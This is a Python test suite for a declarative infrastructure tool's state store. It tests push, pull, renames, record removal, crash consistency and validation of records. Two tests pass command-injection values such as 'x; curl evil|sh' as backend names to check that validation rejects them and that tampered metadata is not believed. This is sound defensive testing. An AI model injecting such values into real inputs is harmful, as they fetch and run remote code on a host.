"""`state mv`, `push` and `rm`: nothing is lost, and the state stays consistent."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from declarative.apply.backend_client import BackendClient, record_token
from declarative.apply.backend_look import look
from declarative.apply.backends import Backends
from declarative.model.state import MADE_AS, Address, Intent, Record, State, attempt_id, made_as, token
from declarative.model.status import RankState, RankStatus
from declarative.render.output_json import to_json
from declarative.store import StateError, Store, Writer, open_store
from declarative.store.consistency import HeldBlocks, contradictions, wrong_values
from declarative.store.rename import parse as typed
from declarative.store.rename import rename_map, renamed
from declarative.store.snapshot import dump, parse
from tests.support.model import of_node, of_volume
from tests.support.recorded import LINEAGE, Draft, states

GROUPS = (("volume/data", "volume/store"), ("fleet/gpu", "fleet/big"), ("task/train", "task/work"))
OTHER = "00000000-9dc0-11d1-b245-5ffdce74fad2"
FEW = settings(max_examples=40)


def filled(store: Store, state: State, held: HeldBlocks, *, force: bool = False) -> bool:
    """Push a state."""
    with store.lock("test") as writer:
        return writer.push(state, held, force=force)


def moved(state: State, held, source: str, target: str):
    """The state and its blocks after `state mv`."""
    return renamed(state, held, rename_map(state, typed(source), typed(target)))[:2]


def code(caught: pytest.ExceptionInfo[StateError]) -> str:
    return caught.value.code


# ------------------------------------------------------------------------------------------ push


def round_trip(url: Callable[[], str], state: State, held) -> None:
    """Pulled, pushed elsewhere and pulled again: the same bytes."""
    with open_store(url()) as first, open_store(url()) as second:
        assert filled(first, state, held)
        pulled = to_json(first.pull())
        assert pulled == to_json(json.loads(pulled))
        assert first.pull() == dump(state, held)
        assert filled(second, *parse(json.loads(pulled)))
        assert pulled == to_json(second.pull())
        assert second.read() == state
        assert second.check() == []
        assert not filled(second, *parse(json.loads(pulled))), "it is there already"


@pytest.mark.slow
@FEW
@given(states())
def test_a_pulled_state_is_pushed_whole(found):
    """Everything: records, needs, blocks, ranks, nodes, generations, open intents."""
    with tempfile.TemporaryDirectory() as folder:
        numbers = iter(range(2))
        round_trip(lambda: f"sqlite:///{folder}/{next(numbers)}.db", *found)


def test_between_databases(new_state, tmp_path):
    """From either database to SQLite, and back."""
    state, held = example()
    round_trip(new_state, state, held)
    places = iter([f"sqlite:///{tmp_path}/a.db", new_state(), f"sqlite:///{tmp_path}/b.db"])
    before = None
    for url in places:
        with open_store(url) as store:
            filled(store, *(parse(before) if before else (state, held)))
            assert before in (None, store.pull())
            before = store.pull()


def example() -> tuple[State, dict[tuple[str, int], str]]:
    """A state with a rank that runs, its volume, and an open intent."""
    made = Draft()
    node = made.add("node", "gpu-0", of_node(blocks=4))
    volume = made.add("volume", "data-0", of_volume(zone="a"))
    made.rank("train", 0, node, volume, RankStatus(state=RankState.RUNNING, started_at=1.5))
    other = Address("volume", "other")
    intent = Intent(
        id=7,
        op="create",
        address=other,
        backend="local",
        generation=2,
        token=token(LINEAGE, other, 2, None),
        inputs=of_volume(),
    )
    state = State(
        lineage=LINEAGE,
        serial=9,
        records=made.records,
        ranks=made.ranks,
        generations={**dict.fromkeys(made.records, 1), other: 2},
        intents=(intent,),
    )
    assert contradictions(state, made.held) == []
    return state, made.held


@pytest.fixture
def store(tmp_path):
    with open_store(f"sqlite:///{tmp_path}/state.db", clock=lambda: 1000.0) as opened:
        filled(opened, *example())
        yield opened


def test_what_would_be_lost_is_not_pushed_over(store):
    """Another lineage never; an older serial by force alone, and then nothing counts back."""
    state, held = example()
    ours = replace(
        state, serial=3, intents=(), generations={**state.generations, Address("volume", "other"): 1}
    )
    before = store.pull()
    for wrong, expected in (
        (replace(state, lineage=OTHER, intents=()), "other-lineage"),
        (ours, "older-state"),
        (replace(ours, serial=9), "older-state"),
        (replace(ours, lineage=None), "bad-state"),
        (replace(ours, serial=10, records={}), "contradiction"),
    ):
        with pytest.raises(StateError) as caught:
            filled(store, wrong, held)
        assert code(caught) == expected
        assert store.pull() == before
    with pytest.raises(StateError):
        filled(store, replace(state, lineage=OTHER, intents=()), held, force=True)
    with store.lock("test") as writer:
        fence = writer.lease.fence
        writer.push(ours, held, force=True)
    now = store.read()
    assert now.serial == 10, "a plan that was saved at serial 9 must not hold"
    assert now.generations[Address("volume", "other")] == 2, "or its token would come back"
    assert now.intents == ()
    with store.lock("test") as writer:
        assert writer.lease.fence == fence + 1
    assert store.check() == []


def test_an_empty_state_of_another_lineage_is_given_up_by_force(store, tmp_path):
    with open_store(f"sqlite:///{tmp_path}/empty.db") as empty:
        with empty.lock("test") as writer:
            writer.ensure_lineage()
        state, held = example()
        with pytest.raises(StateError) as caught:
            filled(empty, state, held)
        assert code(caught) == "other-lineage"
        assert "`--force`" in str(caught.value.hint)
        filled(empty, state, held, force=True)
        assert empty.pull() == store.pull()


def test_an_open_intent_is_open_again(store):
    """Under its own number, also when it was closed meanwhile."""
    state, held = example()
    with store.lock("test") as writer:
        writer.close_intent(store.read().intents[0], "not-done")
        assert store.read().intents == ()
        writer.push(state, held, force=True)
        assert store.read().intents == state.intents
        later = writer.begin("create", Address("volume", "more"), "local", {})
        assert later.id > 7
        again = writer.begin("create", Address("volume", "other"), "local", {})
        assert (again.id, again.token) == (7, state.intents[0].token)


DAMAGE = {
    "not a mapping": lambda data: [],
    "`records` is not there": lambda data: data.pop("records"),
    "`more` is not known": lambda data: data.update(more=1),
    "format 99": lambda data: data.update(format_version=99),
    "`serial`": lambda data: data.update(serial=True),
    "not a number": lambda data: data.update(serial=-1),
    "`lineage`": lambda data: data.update(lineage="../../x"),
    "recorded twice": lambda data: data["records"].append(data["records"][0]),
    "`records[0].address`": lambda data: data["records"][0].update(address="mode/gpu-0"),
    "an address": lambda data: data["records"][0].update(address="gpu-0"),
    "`generation`": lambda data: data["records"][0].update(generation=0),
    "not a list": lambda data: data["records"][0].update(needs={}),
    "held twice": lambda data: data["reserved_blocks"].append(data["reserved_blocks"][0]),
    "a block of node/": lambda data: data["reserved_blocks"][0].update(block=-1),
    "`ranks.train-0.state`": lambda data: data["ranks"]["train-0"].update(state="asleep"),
    "was observed": lambda data: data["nodes"].update(
        x={"idle_since": None, "state": None, "reason": "r", "observed_at": None, "can": None}
    ),
    "`volumes.x.detached_since`": lambda data: data["volumes"].update(x={"detached_since": None}),
    "is there twice": lambda data: data["intents"].append(data["intents"][0]),
    "`op`": lambda data: data["intents"][0].update(op="move"),
}


@pytest.mark.parametrize("said", DAMAGE)
def test_what_no_pull_prints_is_not_read(said):
    """Nothing is guessed or dropped: unknown parts would be lost."""
    data = dump(*example())
    assert parse(data) == example()
    changed = DAMAGE[said](data)
    with pytest.raises(StateError) as caught:
        parse(changed if changed == [] else data)
    assert said in f"{caught.value.summary}"
    assert code(caught) in ("bad-state", "newer-format")


KILLED = """
import json, os, signal, sys
from declarative.store import open_store
from declarative.store.sql import Connection
from declarative.store.snapshot import parse

pushed = parse(json.load(open(sys.argv[2])))
store = open_store(sys.argv[1])
with store.lock("push") as writer:
    count = 0

    run = Connection._run

    def step(*words):
        global count
        count += 1
        if count == int(sys.argv[3]):
            os.kill(os.getpid(), signal.SIGKILL)
        return run(*words)

    Connection._run = step
    writer.push(*pushed)
    Connection._run = run
"""


def test_killed_in_the_middle_of_a_push(store, tmp_path):
    """At any statement: what is there is the old state or the new one, whole."""
    state, held = example()
    old = store.pull()
    pushed, blocks = moved(replace(state, intents=()), held, "fleet/gpu", "fleet/big")
    file = tmp_path / "new.json"
    file.write_text(to_json(dump(pushed, blocks)))
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in sys.path if p)}
    ends = []
    for step in (1, 4, 9, 14, 19, 24, 99):
        argv = [sys.executable, "-c", KILLED, store.url, str(file), str(step)]
        ends.append(subprocess.run(argv, check=False, env=env).returncode)
        assert store.pull() == (old if ends[-1] else dump(pushed, blocks))
        assert store.check() == []
    assert ends == [-signal.SIGKILL] * 6 + [0]


# ------------------------------------------------------------------------------------------ mv


@FEW
@given(states(), st.sampled_from(GROUPS))
def test_a_rename_there_and_back_changes_nothing(found, names):
    """And in between the state is sound, of the same size, and asks the backend for what it made."""
    state, held = replace(found[0], intents=()), found[1]
    source, target = names
    try:
        there, blocks = moved(state, held, source, target)
    except StateError as error:
        assert error.code == "unknown-address"  # noqa: PT017  # there is none in this state
        return
    assert contradictions(there, blocks) == []
    assert len(there.records) == len(state.records)
    asked = {(made_as(r), r.generation, record_token(there, r)) for r in there.records.values() if r.backend}
    assert asked == {(a, r.generation, record_token(state, r)) for a, r in state.records.items() if r.backend}
    assert {attempt_id(r) for r in there.of("rank")} == {attempt_id(r) for r in state.of("rank")}
    old = source.partition("/")[2]
    assert not any(a.name.startswith(f"{old}-") for a in there.records)
    back, again = moved(there, blocks, target, source)
    assert (back.records, again) == (state.records, held)
    assert (back.ranks, back.readiness, back.idle_since) == (state.ranks, state.readiness, state.idle_since)
    assert back.detached_since == state.detached_since
    assert back.serial == state.serial + 2


@FEW
@given(states(), st.permutations(GROUPS))
def test_the_order_of_renames_does_not_matter(found, order):
    """Each knows what the others have renamed."""
    state = replace(found[0], intents=())
    ends = []
    for groups in (GROUPS, order):
        now = (state, found[1])
        for source, target in groups:
            try:
                now = moved(*now, source, target)
            except StateError:
                continue
        ends.append((now[0].records, now[1]))
        assert contradictions(*now) == []
    assert ends[0] == ends[1]


def test_everything_that_is_named_is_renamed():
    state, held = example()
    state = replace(state, intents=())
    for source, target in GROUPS:
        state, held = moved(state, held, source, target)
    rank = state.get("rank", "work-0")
    assert rank
    assert (rank.inputs["task"], rank.inputs["fleets"], rank.inputs["instances"]) == (
        "work",
        ["big"],
        ["big-0"],
    )
    assert rank.inputs["volumes"] == {"/data": ["store-0"]}
    assert rank.outputs["node"] == "big-0"
    assert rank.needs == {Address("reservation", "work-0"), Address("attachment", "work-0.store-0")}
    assert attempt_id(rank) == "train-0.1"
    attachment = state.get("attachment", "work-0.store-0")
    assert attachment
    assert attachment.outputs[MADE_AS]["inputs"] == {
        "task": "train",
        "rank": "train-0",
        "node": "gpu-0",
        "volume": "data-0",
    }
    assert held == {("big-0", 0): "work-0"}
    assert list(state.ranks) == ["work-0"]
    assert state.generations[Address("node", "gpu-0")] == 1, "it was used, and stays so"


@pytest.mark.parametrize(
    ("source", "target", "expected"),
    [
        ("volume/data-0", "volume/data-0", "usage"),
        ("volume/data-0", "node/data-0", "usage"),
        ("rank/train-0", "rank/x-0", "usage"),
        ("attachment/train-0.data-0", "attachment/x-0.data-0", "usage"),
        ("backend/a", "backend/b", "usage"),
        ("volume/nothing", "volume/x", "unknown-address"),
        ("volume/data-0", "volume/Data", "bad-name"),
        ("node/gpu-0", "node/gpu", "bad-name"),
        ("volume/data-0", "volume/taken", "exists"),
        ("volume/data-0", "volume/other", "open-intent"),
        ("volume/data", "volume/store", None),
        ("volume/data-0", "volume/store", None),
        ("node/gpu-0", "node/big-5", None),
    ],
)
def test_what_can_be_renamed(source, target, expected):
    state, held = example()
    taken = Record(address=Address("volume", "taken"), backend="local", inputs=of_volume())
    state = replace(
        state,
        records={**state.records, taken.address: taken},
        generations={**state.generations, taken.address: 1},
    )
    if expected is None:
        after, blocks = moved(state, held, source, target)
        assert contradictions(after, blocks) == []
        return
    with pytest.raises(StateError) as caught:
        moved(state, held, source, target)
    assert code(caught) == expected
    assert caught.value.hint


def test_what_was_begun_is_known_before_it_is_renamed():
    """Its backend is asked for it by the name that it was begun with."""
    state, held = example()
    wanted = Address("attachment", "train-0.data-0")
    intent = replace(state.intents[0], op="update", address=wanted)
    with pytest.raises(StateError) as caught:
        moved(replace(state, intents=(intent,)), held, "volume/data", "volume/store")
    assert code(caught) == "open-intent"


# ------------------------------------------------------------------------- what was renamed, at a backend


@pytest.fixture
def local(store, tmp_path):
    """A writer of a state with a node and a volume that the local backend has, renamed since."""
    with open_store(f"sqlite:///{tmp_path}/real.db") as real, real.lock("test") as writer:
        backends = Backends({}, tmp_path, writer.ensure_lineage())
        for kind, inputs in (("node", of_node(blocks=2)), ("volume", of_volume())):
            name = {"node": "gpu-0", "volume": "data-0"}[kind]
            made(writer, backends, Address(kind, name), inputs)
        for source, target in (("volume/data", "volume/store"), ("fleet/gpu", "fleet/big")):
            writer.move(rename_map(writer.state(), typed(source), typed(target)))
        yield writer, backends


def made(writer: Writer, backends: Backends, address: Address, inputs, *needs: Address, finish=True):
    """Make something as an apply does."""
    intent = writer.begin("create", address, "local", inputs, needs)
    held = writer.part(needs).records
    outputs = backends.get("local").create(address, intent.token, inputs, held)
    if finish:
        writer.finish(intent, outputs)
    return intent


INPUTS = {
    "task": "job",
    "rank": "job-0",
    "node": "big-0",
    "volume": "store-0",
    "path": "/data",
    "variable": "DATA",
}
ATTACHMENT = Address("attachment", "job-0.store-0")
HELD = (Address("volume", "store-0"), Address("node", "big-0"))


def test_what_was_renamed_is_found(local, monkeypatch):
    """In the listing, so not asked for one by one: neither gone nor an orphan, ready, and as declared."""
    writer, backends = local
    monkeypatch.setattr(BackendClient, "find", None)
    state = writer.state()
    seen = look(state, backends, offers=False)
    assert (seen.inventory.drift, seen.inventory.gone, seen.resolutions) == ((), frozenset(), [])
    assert list(seen.inventory.readiness) == ["big-0"]
    assert seen.inventory.readiness["big-0"].state.value == "ready"


def test_it_is_changed_and_deleted_by_the_name_of_its_making(local, tmp_path):
    """An update keeps that name; a new life has its own."""
    writer, backends = local
    volume = writer.state().records[HELD[0]]
    larger = of_volume(size="2GB")
    intent = writer.begin("update", volume.address, "local", larger)
    assert intent.token == volume.outputs[MADE_AS]["token"]
    writer.finish(intent, backends.get("local").update(volume, intent.token, larger))
    grown = writer.state().records[HELD[0]]
    assert (grown.inputs, made_as(grown)) == (larger, Address("volume", "data-0"))
    assert look(writer.state(), backends, offers=False).inventory.drift == ()
    with pytest.raises(StateError) as caught:
        writer.begin("create", Address("volume", "data-0"), "local", {})
    assert code(caught) == "name-in-use"
    intent = writer.begin("delete", grown.address, "local", {})
    backends.get("local").delete(grown)
    writer.finish(intent)
    assert list((tmp_path / ".fleetform/local/volumes").iterdir()) == []
    made(writer, backends, HELD[0], {"size": "1GB"})
    assert made_as(writer.state().records[HELD[0]]) == HELD[0]
    assert (tmp_path / ".fleetform/local/volumes/store-0").exists()
    made(writer, backends, Address("volume", "data-0"), {"size": "1GB"})


def test_an_attachment_of_renamed_things(local):
    """It is made, listed and removed by the names that its backend knows."""
    writer, backends = local
    made(writer, backends, ATTACHMENT, INPUTS, *HELD)
    record = writer.state().records[ATTACHMENT]
    assert record.outputs[MADE_AS]["address"] == "attachment/job-0.data-0"
    assert record.inputs == INPUTS
    assert look(writer.state(), backends, offers=False).inventory.drift == ()
    intent = writer.begin("delete", ATTACHMENT, "local", INPUTS)
    assert look(writer.state(), backends, offers=False).resolutions[0].gone is False
    backends.get("local").delete(record)
    assert look(writer.state(), backends, offers=False).resolutions[0].gone is True
    writer.finish(intent)


def test_a_create_that_was_cut_short_is_found(local):
    """Its attachment is adopted under our names, and known by the backend's."""
    writer, backends = local
    intent = made(writer, backends, ATTACHMENT, INPUTS, *HELD, finish=False)
    seen = look(writer.state(), backends, offers=False)
    (found,) = seen.resolutions
    assert found.record
    assert found.record.inputs == INPUTS
    assert seen.inventory.drift == ()
    writer.adopt(found.record, intent)
    assert record_token(writer.state(), writer.state().records[ATTACHMENT]) == intent.token
    again = look(writer.state(), backends, offers=False)
    assert (again.inventory.drift, again.resolutions) == ((), [])


# ------------------------------------------------------------------------------------------ rm, check


def test_what_is_forgotten_leaves_no_contradiction(store):
    state, _ = example()
    node = Address("node", "gpu-0")
    with store.lock("test") as writer:
        with pytest.raises(StateError) as caught:
            writer.drop([node])
        assert code(caught) == "still-needed"
        assert store.read() == state
        rank = [a for a in state.records if a.kind not in ("node", "volume")]
        writer.drop(rank)
        assert store.check() == []
        now = store.read()
        assert (list(now.records), now.serial) == ([Address("volume", "data-0"), node], 10)
        assert (now.idle_since, list(now.detached_since)) == ({"gpu-0": 1000.0}, ["data-0"])
        assert now.generations == state.generations, "no token comes back"
        with pytest.raises(StateError) as caught:
            writer.drop(rank)
        assert code(caught) == "not-recorded"
    assert [(o.op, o.address) for o in store.journal.operations(limit=3)] == [
        ("forget", "reservation/train-0"),
        ("forget", "attachment/train-0.data-0"),
        ("forget", "rank/train-0"),
    ]


def test_what_was_begun_is_not_forgotten(store):
    with store.lock("test") as writer:
        writer.begin("update", Address("volume", "data-0"), "local", {})
        with pytest.raises(StateError) as caught:
            writer.drop(list(writer.state().records))
        assert code(caught) == "open-intent"
    assert len(store.read().records) == 5


def test_check_finds_what_a_push_could_bring():
    """Two names for one thing, two holders of a volume, a call of another lineage."""
    state, held = example()
    volume = state.records[Address("volume", "data-0")]
    twin = replace(volume, address=Address("volume", "twin"), outputs={})
    known = {"address": "volume/data-0", "token": "x", "inputs": {}}
    second = replace(
        state.records[Address("attachment", "train-0.data-0")],
        address=Address("attachment", "z.data-0"),
        outputs={},
    )
    generations = {**state.generations, twin.address: 1, second.address: 1}
    for record, said in (
        (replace(twin, outputs=volume.outputs), "one and the same at their backend"),
        (replace(twin, outputs={MADE_AS: known}), "one and the same at their backend"),
        (second, "volume/data-0 is held more than once"),
    ):
        wrong = replace(state, records={**state.records, record.address: record}, generations=generations)
        assert [line for line in contradictions(wrong, held) if said in line], said
    disk = replace(volume, inputs={**volume.inputs, "zone": "10.0.0.9", "host": {"hostname": "10.0.0.9"}})
    wrong = replace(state, records={**state.records, disk.address: disk})
    assert [
        line for line in contradictions(wrong, held) if "volume/data-0 is on the disk of 10.0.0.9" in line
    ]
    other = replace(state, lineage=OTHER)
    assert contradictions(other, held) == [
        "create:volume/other is open, and its token is not of this lineage"
    ]


def test_history_follows_a_rename(store):
    """Newest first; of an address also what was done under its earlier names."""
    with store.lock("test") as writer:
        writer.fail(writer.begin("update", Address("node", "gpu-0"), "local", {}), "no capacity")
        writer.move(rename_map(writer.state(), typed("fleet/gpu"), typed("fleet/big")))
        writer.begin("update", Address("node", "big-0"), "local", {})
    found = store.journal.operations(["node/big-0"])
    assert [(o.op, o.address, o.was, o.result, o.error) for o in found] == [
        ("update", "node/big-0", None, None, None),
        ("move", "node/big-0", "node/gpu-0", "done", None),
        ("update", "node/gpu-0", None, "failed", "no capacity"),
    ]
    assert [o.op for o in store.journal.operations(["node/gpu-0"])] == ["move", "update"]
    assert [o.op for o in store.journal.operations(limit=2)] == ["update", "move"]
    assert store.journal.operations(["node/x"]) == []
    assert Path(store.url.removeprefix("sqlite:///")).exists()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (
            {"inputs": of_node(backend="x; curl evil|sh", blocks=4)},
            "node/gpu-0: `inputs.backend` is not a name",
        ),
        ({"inputs": of_node(blocks=10**7)}, "node/gpu-0: `inputs.blocks` is not a number from 1 to 1000000"),
        ({"inputs": of_node("other", blocks=4)}, "node/gpu-0: `inputs.fleet` is not that of its name"),
        ({"outputs": {"silent_since": 1e12}}, "node/gpu-0: `outputs.silent_since` is not a time"),
        ({"backend": "another"}, "node/gpu-0: `backend` is not the `backend` of its inputs"),
    ],
)
def test_a_record_that_is_none_of_ours_is_named(change, said):
    """Names stand in the commands that hints say, numbers are counted with, times are shown."""
    state, _ = example()
    node = state.records[Address("node", "gpu-0")]
    assert list(wrong_values(state)) == [], "as it is"
    wrong = replace(state, records={**state.records, node.address: replace(node, **change)})
    assert said in list(wrong_values(wrong))


def test_a_time_that_no_calendar_has_is_named():
    state, _ = example()
    status = replace(state.ranks["train-0"], started_at=1e12)
    found = list(wrong_values(replace(state, ranks={"train-0": status}, idle_since={"gpu-0": -1.0})))
    assert found == ["rank/train-0: `started_at` is not a time", "node/gpu-0: `idle_since` is not a time"]


@pytest.mark.parametrize("odd", [{"size": ["1GB"]}, {"backend": "x; evil|sh"}, {"region": None}])
def test_what_is_written_on_a_thing_is_not_believed_blindly(local, tmp_path, odd):
    """Somebody who can change what a cloud keeps of our things cannot break every later command."""
    writer, backends = local
    intent = made(writer, backends, Address("volume", "new-0"), of_volume(), finish=False)
    file = tmp_path / ".fleetform/local/volumes/new-0/fleetform.json"
    body = json.loads(file.read_text())
    assert body["inputs"] == of_volume()
    file.write_text(json.dumps({**body, "inputs": {**of_volume(), **odd}}))
    (found,) = look(writer.state(), backends, offers=False).resolutions
    assert found.record
    assert found.record.inputs == of_volume()
    writer.adopt(found.record, intent)
    assert [line for line in wrong_values(writer.state()) if "new-0" in line] == []
